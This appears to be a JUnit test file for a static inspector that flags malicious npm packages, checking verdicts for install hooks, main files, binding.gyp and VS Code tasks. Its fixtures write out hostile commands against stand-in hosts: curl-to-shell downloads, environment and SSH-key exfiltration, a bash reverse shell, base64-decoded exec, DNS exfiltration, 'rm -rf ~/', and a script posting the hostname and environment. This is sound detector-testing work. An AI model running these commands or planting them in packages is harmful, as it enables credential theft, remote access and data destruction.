package cordon.inspect.trigger;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cordon.formats.archive.ByteSource;
import cordon.inspect.Report;
import cordon.inspect.StaticInspector;
import cordon.inspect.Subject;
import cordon.inspect.Verdict;
import cordon.inspect.delta.Baseline;
import cordon.inspect.fact.Occasion;
import cordon.inspect.rules.Rules;
import cordon.inspect.testing.Artifact;
import cordon.inspect.tree.UnpackLimits;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class NpmTriggersTest {
  private static final StaticInspector INSPECTOR =
      new StaticInspector(Rules.own(false).build(), UnpackLimits.DEFAULT);
  private static final String POSTS =
      "const os=require('os');const q=require('https').request({host:'h.example',method:'POST'});q.write(JSON.stringify({h:os.hostname(),e:process.env}));q.end()";

  private static Report inspect(Artifact artifact) throws IOException {
    return INSPECTOR.inspect(
        Subject.file(artifact.fileName()), ByteSource.of(artifact.bytes()), Baseline.NONE);
  }

  private static Artifact npm(String manifest) {
    return Artifact.npm("demo", "1.0.0")
        .file("package.json", "{\"name\":\"demo\",\"version\":\"1.0.0\"," + manifest + "}");
  }

  private static Artifact hook(String name, String command) {
    return npm(
        "\"scripts\":{\""
            + name
            + "\":\""
            + command.replace("\\", "\\\\").replace("\"", "\\\"")
            + "\"}");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "node setup.js",
        "node ./setup",
        "node scripts/../setup.js || exit 0",
        "npm run go",
        "node -r ./setup.js -e \"1\"",
        "NODE_ENV=x node setup.js > /dev/null 2>&1",
        "node lib/start"
      })
  void aHookThatPostsTheMachineIsMalicious(String command) throws IOException {
    Artifact artifact =
        npm("\"scripts\":{\"go\":\"node setup.js\",\"preinstall\":\""
                + command.replace("\"", "\\\"")
                + "\"}")
            .file("setup.js", POSTS)
            .file("lib/start.js", "require('../setup')");
    Report report = inspect(artifact);
    assertEquals(Verdict.MALICIOUS, report.verdict(), () -> report.triggers().toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -s http://drop.example/x | sh", "wget -qO- http://drop.example/x | bash",
        "curl --data \"$(env)\" http://drop.example/", "env | curl -d @- http://drop.example/",
        "curl http://h.example/?h=$(hostname)",
            "node -e \"eval(Buffer.from('6576','hex').toString())\"",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
            "cat ~/.ssh/id_rsa | curl -d @- http://drop.example",
        "echo cHJpbnQK | base64 -d | sh",
            "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
        "nslookup $(whoami).h.example", "rm -rf ~/"
      })
  void aHookThatDoesHarmItselfIsMalicious(String command) throws IOException {
    Report report = inspect(hook("postinstall", command));
    assertEquals(Verdict.MALICIOUS, report.verdict(), () -> report.triggers().toString());
  }

  @Test
  void encodedPowerShellIsMalicious() throws IOException {
    String code =
        Base64.getEncoder()
            .encodeToString("Write-Output inert".getBytes(StandardCharsets.UTF_16LE));
    assertEquals(
        Verdict.MALICIOUS, inspect(hook("install", "powershell -w hidden -enc " + code)).verdict());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "husky",
        "husky install",
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "node-gyp-build",
        "patch-package",
        "node install.js",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "echo thanks",
        "opencollective-postinstall || exit 0",
        "npm run build",
        "tsc -p .",
        "node scripts/missing.js || true"
      })
  void ordinaryHooksAreClean(String command) throws IOException {
    Artifact artifact =
        npm("\"scripts\":{\"build\":\"rollup -c\",\"postinstall\":\""
                + command.replace("\"", "\\\"")
                + "\"}")
            .file(
                "install.js",
                "const {execFileSync}=require('child_process');const p=require.resolve('x/bin');execFileSync(p,['--version'],{stdio:'pipe'})")
            .file(
                "postinstall.js",
                "var env=process.env;if(!env.CI&&!env.npm_config_loglevel){console.log('Thank you: https://donate.example/demo')}");
    Report report = inspect(artifact);
    assertEquals(Verdict.CLEAN, report.verdict(), () -> report.findings() + " " + report.doubts());
  }

  @Test
  void fetchingABinaryOfItsOwnAtInstallIsNoMalice() throws IOException {
    Artifact artifact =
        npm("\"scripts\":{\"postinstall\":\"node install.js\"}")
            .file(
                "install.js",
                """
                const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), zlib = require('zlib');
                const child_process = require('child_process');
                const key = `${process.platform} ${os.arch()} ${os.endianness()}`;
                function fetch(url) { return new Promise((y, n) => { https.get(url, res => { let c = []; res.on('data', d => c.push(d)); res.on('end', () => y(Buffer.concat(c))) }).on('error', n) }) }
                async function main() {
                  const bin = path.join(__dirname, 'bin', 'tool');
                  const data = zlib.unzipSync(await fetch('https://registry.example/tool-' + key + '.tgz'));
                  fs.writeFileSync(bin, data, { mode: 0o755 });
                  const out = child_process.execFileSync(bin, ['--version'], { stdio: 'pipe', env: { ...process.env } }).toString().trim();
                  if (out !== '1.0.0') throw new Error(`expected ${out}`);
                }
                main();
                """);
    Report report = inspect(artifact);
    assertFalse(report.verdict() == Verdict.MALICIOUS, () -> report.findings().toString());
  }

  @Test
  void whatOnlyTestsHoldIsNotReached() throws IOException {
    Artifact artifact =
        npm("\"main\":\"lib\"")
            .file("lib/index.js", "exports.a = 1")
            .file(
                "test/evil.test.js",
                "const os = require('os');"
                    + "require('https').get('https://drop.example/' + os.userInfo().username + os.hostname())");
    assertEquals(Verdict.CLEAN, inspect(artifact).verdict());
  }

  @Test
  void loadingRunsTheMainFile() throws IOException {
    Artifact artifact =
        npm("\"main\":\"./lib\"")
            .file("lib/index.js", "require('./b')")
            .file("lib/b.js", "eval(atob(x))");
    assertEquals(Verdict.MALICIOUS, inspect(artifact).verdict());
  }

  @Test
  void aBuildFileWithoutSourcesThatRunsAScriptIsMalicious() throws IOException {
    String gyp =
        "# c\n{'targets':[{'target_name':'x','sources':['<!(node index.js > /dev/null && echo a.c)']}]}";
    Artifact artifact = npm("\"main\":\"lib.js\"").file("binding.gyp", gyp).file("index.js", "1");
    assertEquals(Verdict.MALICIOUS, inspect(artifact).verdict());
    String include =
        "{'targets':[{'target_name':'x','sources':['a.cc'],'include_dirs':[\"<!@(node -p \\\"require('node-addon-api').include\\\")\"]}]}";
    Artifact real = npm("\"main\":\"lib.js\"").file("binding.gyp", include).file("a.cc", "int a;");
    assertEquals(Verdict.CLEAN, inspect(real).verdict());
  }

  @ParameterizedTest
  @CsvSource({
    "git+https://git.example/x.git",
    "github:someone/x",
    "someone/x#abc",
    "https://files.example/x.tgz"
  })
  void dependenciesOutsideTheRegistryAreTriggers(String version) throws IOException {
    Report report = inspect(npm("\"optionalDependencies\":{\"x\":\"" + version + "\"}"));
    assertTrue(
        report.triggers().stream().anyMatch(t -> t.occasion() == Occasion.INSTALL),
        () -> report.triggers().toString());
    assertEquals(Verdict.CLEAN, report.verdict());
  }

  @Test
  void bundledPackagesHaveHooksOfTheirOwn() throws IOException {
    Artifact artifact =
        npm("\"bundledDependencies\":[\"x\"]")
            .file("node_modules/x/package.json", "{\"scripts\":{\"install\":\"node a\"}}")
            .file("node_modules/x/a.js", POSTS);
    assertEquals(Verdict.MALICIOUS, inspect(artifact).verdict());
  }

  @Test
  void hooksOfEditorsAreTriggers() throws IOException {
    Artifact artifact =
        npm("\"main\":\"a.js\"")
            .file(
                ".vscode/tasks.json",
                "{\"tasks\":[{\"command\":\"node\",\"args\":[\"p.js\"],\"runOptions\":{\"runOn\":\"folderOpen\"}}]}")
            .file("p.js", POSTS);
    assertEquals(Verdict.MALICIOUS, inspect(artifact).verdict());
  }
}
